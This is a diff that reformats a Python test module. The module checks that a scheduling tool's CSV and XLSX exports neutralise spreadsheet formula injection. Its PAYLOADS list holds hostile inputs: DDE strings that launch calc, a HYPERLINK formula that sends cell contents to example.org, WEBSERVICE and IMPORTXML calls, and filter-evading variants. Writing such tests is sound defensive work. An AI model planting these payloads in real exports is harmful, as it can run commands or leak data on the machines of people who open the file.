@@ -1,4 +1,6 @@
-"""Texts a spreadsheet would run, in every text field, through every export of people and timetable: no formula lives, all comes back."""
+"""Texts a spreadsheet would run, in every text field, through every export of people and
+timetable: no formula lives, all comes back.
+"""
 
 from __future__ import annotations
 
@@ -21,7 +23,11 @@ from lcdesk.services.core.desk import Desk
 from lcdesk.services.core.finding import Query
 from lcdesk.services.core.opening import open_desk
 from lcdesk.services.curriculum.curriculum import add_activity, change_activities
-from lcdesk.services.exporting.exporting import export_cohort, export_curriculum, export_participants
+from lcdesk.services.exporting.exporting import (
+    export_cohort,
+    export_curriculum,
+    export_participants,
+)
 from lcdesk.services.exporting.exporting_views import export_shown
 from lcdesk.services.importing import importing
 from lcdesk.services.participants.participants import add_participant, change_participants
@@ -29,9 +35,25 @@ from lcdesk.tabular.writing import text
 from tests.faults.fault import Control, Fault, Figures
 
 PAYLOADS = (
-    "=1+1", "=cmd|'/c calc'!A0", '=HYPERLINK("http://example.org/?"&A1,"x")', "=WEBSERVICE(A1)", "=DDE(1)", "+1+1", "-1+1", "-2+3+cmd|' /c calc'!A0",
-    "@SUM(1,1)", "\t=1+1", "\r=1+1", "'=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", '=IMPORTXML("http://example.org","//a")', "=A1;=B1,\"=C1\"",
-)  # fmt: skip
+    "=1+1",
+    "=cmd|'/c calc'!A0",
+    '=HYPERLINK("http://example.org/?"&A1,"x")',
+    "=WEBSERVICE(A1)",
+    "=DDE(1)",
+    "+1+1",
+    "-1+1",
+    "-2+3+cmd|' /c calc'!A0",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "'=1+1",
+    "＝1+1",
+    "＋1",
+    "－1",
+    "＠SUM(1)",
+    '=IMPORTXML("http://example.org","//a")',
+    '=A1;=B1,"=C1"',
+)
 _LIVE = re.compile(r"[=+\-@\t\r＝＋－＠]")
 _NUMBER = re.compile(r"[+-]?\d+(\.\d+)?|\d{4}-\d\d-\d\d.*")
 Write = Callable[[Desk, Path], object]
@@ -68,7 +90,10 @@ def run_without_guard(trials: int, _seed: int) -> Figures:
 
 def _run(trials: int, exports: Sequence[tuple[str, Write, bool]]) -> Figures:
     harm, fields, done = {"live formulas": 0, "values that came back otherwise": 0}, 0, 0
-    with tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as place, _desk(Path(place)) as desk:
+    with (
+        tempfile.TemporaryDirectory(ignore_cleanup_errors=True) as place,
+        _desk(Path(place)) as desk,
+    ):
         for payload in PAYLOADS:
             if done == trials:
                 break
@@ -78,7 +103,9 @@ def _run(trials: int, exports: Sequence[tuple[str, Write, bool]]) -> Figures:
                     break
                 path = Path(place) / f"out {done}.{ending}"
                 write(desk, path)
-                harm["live formulas"] += (_live_in_book if ending == "xlsx" else _live_in_lines)(path)
+                harm["live formulas"] += (_live_in_book if ending == "xlsx" else _live_in_lines)(
+                    path
+                )
                 if comes_back:
                     harm["values that came back otherwise"] += _changed(desk, path)
                 done += 1
@@ -105,7 +132,8 @@ def _texts_of(kind: RecordKind) -> list[str]:
 def _plant(desk: Desk, payload: str) -> int:
     """The payload in every text field; in how many."""
     people, activities = (
-        {name: _kept(kind.field(name), payload) for name in _texts_of(kind)} for kind in (PARTICIPANT, ACTIVITY)
+        {name: _kept(kind.field(name), payload) for name in _texts_of(kind)}
+        for kind in (PARTICIPANT, ACTIVITY)
     )
     change_participants(desk, [1], people)
     change_activities(desk, [1], activities)
@@ -140,6 +168,12 @@ def _changed(desk: Desk, path: Path) -> int:
 
 
 FAULTS = (
-    Fault("formulas", "texts that are formulas in every text field, through every export", run, len(PAYLOADS) * len(EXPORTS), 3,
-          (Control("CSV written without its guard", run_without_guard, 18, 1),)),
-)  # fmt: skip
+    Fault(
+        "formulas",
+        "texts that are formulas in every text field, through every export",
+        run,
+        len(PAYLOADS) * len(EXPORTS),
+        3,
+        (Control("CSV written without its guard", run_without_guard, 18, 1),),
+    ),
+)
